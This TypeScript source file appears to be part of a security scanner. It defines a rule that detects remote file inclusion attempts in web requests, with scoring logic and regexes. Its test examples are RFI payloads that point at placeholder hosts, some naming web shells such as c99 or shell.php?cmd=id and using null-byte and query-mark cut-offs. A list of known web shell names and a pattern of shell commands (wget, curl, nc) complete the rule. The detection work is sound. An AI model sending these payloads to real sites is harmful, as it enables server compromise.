import type { Url } from '../../grammars/url/url.ts';
import { confidence } from '../../placement/confidence.ts';
import { isIncludeMember, strongestInclude } from '../../placement/include-place.ts';
import type { Subject } from '../../placement/subject.ts';
import { isDigit } from '../../text/char-class.ts';
import { wordList } from '../../text/words.ts';
import type { ValueRule } from '../rule.ts';

/**
 * A URL in the shape that an `include` needs: a script as text, and a mark that cuts off what is
 * appended.
 */
export const remoteScript: ValueRule = {
  id: 'rfi.remote-script',
  cwe: 'CWE-98',
  severity: 'critical',
  score: confidence.strong,
  message: 'names a script on another machine so that an include runs it here',
  trigger: {
    literals: [
      ['http', 'ftp', '//', '\\\\'],
      [
        ...wordList(
          '.txt .php .phtml .asp .jsp .inc .gif .jpg .png .dat .htm .cgi .pl .py .log .cfm',
          '.sh .exe? .nsf? .do? .action? ? #',
        ),
        '\u0000',
        '%00',
        '??',
      ],
    ],
  },
  judge: (subject) => {
    const state: Reading = { call: undefined, plainTo: 0 };
    return strongestInclude(subject, (url, isValue) =>
      isValue ? scoreOf(subject, url, state) : 0,
    );
  },
  examples: [
    'http://files.example.net/c99.txt?',
    'https://203.0.113.9/shell.php?cmd=id',
    '/main.php?root_path=http://203.0.113.9/x.txt',
    'ftp://files.example.net/r57.txt',
    '//files.example.net/shell.txt%00',
    '/a.php?b=http://files.example.net/any??',
    'http://files.example.net/page.php\u0000',
    '/load.php?abspath=http://files.example.net/a',
    'page=http://files.example.net/menu.txt',
    'index.php?include=ftp://files.example.net/a',
    '/index.php?page=http://files.example.net/shell',
    'https://files.example.net/malware.php',
    '/index.php?template=http://files.example.net/menu',
    { body: { include: 'http://files.example.net/menu.txt' } },
    'http://files.example.net/menu.php%23',
    'http://files.example.net/menu.gif?/',
    { body: { path: '/index.php?page=http://files.example.net/menu.php' } },
    { body: { 'query.page': 'http://files.example.net/menu.txt' } },
    { body: { 'query.include': '//203.0.113.9/menu.php' } },
    { body: { 'query.config': 'http://files.example.net/config.inc.php?' } },
    { body: { lang: 'http://files.example.net/en.php?' } },
    { body: { template: 'http://files.example.net/menu.html?' } },
    { body: { module: 'ftp://files.example.net/mod.phtml' } },
    'hthttptp://files.example.net/menu.txt?',
    { body: { 'query.lang': 'http://files.example.net/en#' } },
    { body: { theme: 'ftp://203.0.113.9/dark#?' } },
  ],
  lookalikes: [
    'https://www.example.com/index.php?id=7&cmd=show',
    'https://www.example.com/robots.txt',
    '/login.php?next=https://www.example.com/index.php?a=1',
    'the list is at http://www.example.com/names.txt, have a look',
    'https://www.example.com/search?q=what%3F',
    '//cdn.example.net/lib/app.js?v=1.2',
    'https://www.example.com/index.php?/news',
    '/share.php?page=http://www.example.com/index.php',
    '/stats.php?url=http://www.example.com/menu.php',
    'https://www.example.com/?',
    'https://www.example.com/index.php?',
    'https://www.example.com/photo.jpg#',
    '/view.php?url=http://www.example.com/notes',
    'https://www.example.com/viewer?file=https://www.example.com/notes.txt',
    { body: { file: 'https://www.example.com/notes.txt' } },
    { body: { page: 'https://www.example.com/notes.txt?lang=de' } },
    { body: { 'query.page': 'https://www.example.com/notes.txt' } },
    { body: { 'query.url': 'http://www.example.com/menu.php' } },
    { body: { theme: 'https://cdn.example.net/dark.css', lang: 'de' } },
    { body: { module: 'https://cdn.example.net/lib/app.js' } },
    { body: { theme: 'https://cdn.example.net/dark.css?' } },
    '/a/1.php?PageName=https://www.example.com/#/',
    { body: { lang: 'https://www.example.com/en' } },
  ],
};

/** What is known of a text while its URLs are judged in order. */
interface Reading {
  /** Offset of the first call of a script in the text, -1 without; undefined before it is asked. */
  call: number | undefined;
  /** No path ends between the last URL and here: URLs inside each other are not read twice. */
  plainTo: number;
}

function scoreOf(subject: Subject, url: Url, state: Reading): number {
  if (!isIncludeScheme(url.scheme)) return 0;
  const text = subject.text;
  const end = Math.min(url.end, url.pathStart + pathCharsMax);
  state.call ??= text.search(scriptCall);
  const { call } = state;
  const cut = endOfPath(text, Math.min(end, Math.max(url.pathStart, state.plainTo)), end);
  state.plainTo = cut;
  const nameStart = text.lastIndexOf('/', cut - 1) + 1;
  const name = text.slice(Math.max(nameStart, url.pathStart), cut).toLowerCase();
  const mark = cut === end ? '' : text.slice(cut, end).toLowerCase();
  if (shellNames.test(name))
    return mark !== '' || isParameterOf(call, url) ? confidence.certain : confidence.strong;
  const isScript = scriptName.test(name);
  const parameter = url.place === 'parameter' ? parameterOf(text, url) : queryName(subject);
  const isIncluded = isIncludeMember(subject.member) || includeParameter.test(parameter);
  const isCut = isCutMark(mark, subject.decoded);
  const isEmbedded = isParameterOf(call, url);
  if (isScript && command.test(mark)) return confidence.certain;
  if (isScript && isCut && !(mark === '?/' && pageName.test(name))) {
    // An empty form makes `index.php?`, an empty link `index.php#`.
    if (!weakMarks.has(mark)) return confidence.certain;
    return textName.test(name) || isEmbedded || isIncluded ? confidence.strong : confidence.hint;
  }
  if (url.slashes > 1 && isEmbedded) {
    if (command.test(mark)) return confidence.certain;
    if (isCut && (mark !== '?' || isAddress(text, url) || name !== '')) return confidence.strong;
    if (textName.test(name) || (isScript && isAddress(text, url))) return confidence.strong;
  }
  if (isEmbedded && includeRoot.test(parameter)) return confidence.strong;
  if ((isEmbedded || isIncluded) && bareShell.test(name)) return confidence.strong;
  if (isEmbedded && url.slashes > 1 && includedPart.test(parameter)) return confidence.likely;
  const isPlain = mark === '' && url.scheme !== 'https' && url.slashes > 1;
  if (isPlain && isIncluded && pageName.test(name) && !ordinaryPage.test(name))
    return confidence.likely;
  if (mark === '' && textName.test(name)) {
    const isPage =
      (url.scheme === 'http' && includeParameter.test(parameter)) ||
      (url.scheme === 'ftp' && parameter !== '');
    return isPage || isIncludeMember(subject.member) ? confidence.likely : confidence.trace;
  }
  // Behind what a program includes: its own ending becomes a query or a fragment.
  if (url.slashes > 1 && isIncludeMember(subject.member) && isEnded(name, mark, isCut)) {
    return confidence.likely;
  }
  if (isScript && url.scheme !== 'https' && isIncludeMember(subject.member)) return confidence.hint;
  return 0;
}

const weakMarks: ReadonlySet<string> = new Set(['?', '#']);
const pathCharsMax = 160;
const includeSchemes: ReadonlySet<string> = new Set(['http', 'https', 'ftp', 'ftps', '']);

/** Also behind a parameter name that has lost its `=`. */
function isIncludeScheme(scheme: string): boolean {
  // `hthttptp:` is what is left when `http` is taken out once.
  const inner = scheme.replace('http', '');
  return includeSchemes.has(scheme) || scheme.endsWith('http') || includeSchemes.has(inner);
}

const scriptName =
  /\.(?:txt|php[3457]?|phtml|inc|aspx?|jspx?|cgi|pl|py|cfm|gif|jpe?g|png|dat|log)$/;
/** Programs of a site may take what follows `?/` as a path. */
const pageName = /\.(?:php[3457]?|aspx?|jspx?|cgi|cfm|pl)$/;
const textName = /\.(?:txt|inc|dat)$/;

/** Names under which web shells are passed on. */
const shellNames =
  /^(?:c99|r57|c100|b374k|wso\d{0,4}|weevely|p0wny|alfa|indoxploit|mini|marijuana|web-?shell|(?:simple-?|php-?|web-?|mini-?)?backdoor|(?:php-?)?(?:reverse-?)?shell\d{0,4}|evil|malware|cmd|pwn(?:ed)?|exploit|payload|rfi(?:inc|_vuln)?|rce|id)\.(?:txt|php[3457]?|phtml|inc|gif|jpe?g|png|asp|jsp|dat)$/;

/** `?cmd=id`, `?&cmd=ls`, `?c=whoami` */
const command =
  /^\?{1,2}&?(?:cmd|c|exec|command|x|e|run|0)=(?:id|ls|dir|pwd|whoami|uname|cat|ping|phpinfo|wget|curl|net|ver|ps|echo|type|ipconfig|ifconfig|nc)\b/;

/** The URL ends in a mark that makes a query, a fragment or nothing of what the script appends. */
function isCutMark(mark: string, decoded: readonly string[]): boolean {
  if (mark === '') return false;
  // A literal `\x00` is no null byte to what reads URLs.
  if (mark.startsWith('\u0000')) return !decoded.includes('js-escape');
  return cutMark.test(mark);
}

const cutMark = /^(?:\?{1,3}(?:&.{0,80}|[=';#"/]{0,4})?|#|%00|%23|%3f)$/;

/** What ends a name of no picture, so that what is appended to it does not count. */
function isEnded(name: string, mark: string, isCut: boolean): boolean {
  return (isCut || emptyFragment.test(mark)) && !assetName.test(name);
}

const emptyFragment = /^#[?#/]{1,3}$/;

/** Is the URL a parameter of a script: `/x.php?dir=`? */
function isParameterOf(call: number, url: Url): boolean {
  const distance = url.start - call;
  return url.place === 'parameter' && call >= 0 && distance > 0 && distance < parameterCharsMax;
}

const parameterCharsMax = 300;
const scriptCall =
  /\.(?:php[3457]?|phtml|asp|aspx|jsp|cgi|pl|cfm|inc|exe|nsf|html?|do|action)[?/]/i;

/** `page` of `query.page`: the client's own query, taken apart before it came here. */
function queryName(subject: Subject): string {
  return subject.member.startsWith('query.') ? subject.member.slice(6) : '';
}

/** The name in front of `=`. */
function parameterOf(text: string, url: Url): string {
  const before = text.slice(Math.max(0, url.start - 64), url.start);
  return parameterName.exec(before)?.[1] ?? '';
}

const parameterName = /(?:^|[?&;\s])([\w.[\]-]{1,40})=$/;
/** Folders that a program of PHP puts in front of what it includes. */
const includeRoot =
  /^(?:abs_?path|absolute_path|\w{0,24}_root|root_?(?:dir|path|folder)|include_?(?:path|dir)|base_?dir|inc_?dir|lib_?(?:dir|path))$|mosconfig/i;
/** A web shell to whose name the program appends the extension. */
const bareShell = /^(?:c99|r57|(?:web-?)?shell\d?|cmd|evil|backdoor|malware|rfi)$/;
/** What a program of PHP includes as a part of its page. */
const includedPart = /^(?:inc|includes?|require|template|tpl|layout|skin|module|load)$/i;
/** What a page loads, and no program includes. */
const assetName = /\.(?:css|m?js|json|svg|woff2?|ico)$/;
const ordinaryPage = /^(?:index|default|home|main|view|show|page|start)\./;
const includeParameter =
  /^(?:page|inc|include|path|load|template|tpl|module|layout|skin|content|section|lang|theme|config)$/i;

function isAddress(text: string, url: Url): boolean {
  return isDigit(text.charCodeAt(url.hostStart)) && isDigit(text.charCodeAt(url.hostEnd - 1));
}

/** `? # '`, a null byte, or one of them percent-encoded. */
function endOfPath(text: string, from: number, end: number): number {
  for (let at = from; at < end; at++) {
    const code = text.charCodeAt(at);
    if (code === 63 || code === 35 || code === 39 || code === 0) return at;
    if (code === 37 && encodedEnds.has(text.slice(at, at + 3).toLowerCase())) return at;
  }
  return end;
}

const encodedEnds: ReadonlySet<string> = new Set(['%00', '%23', '%3f']);
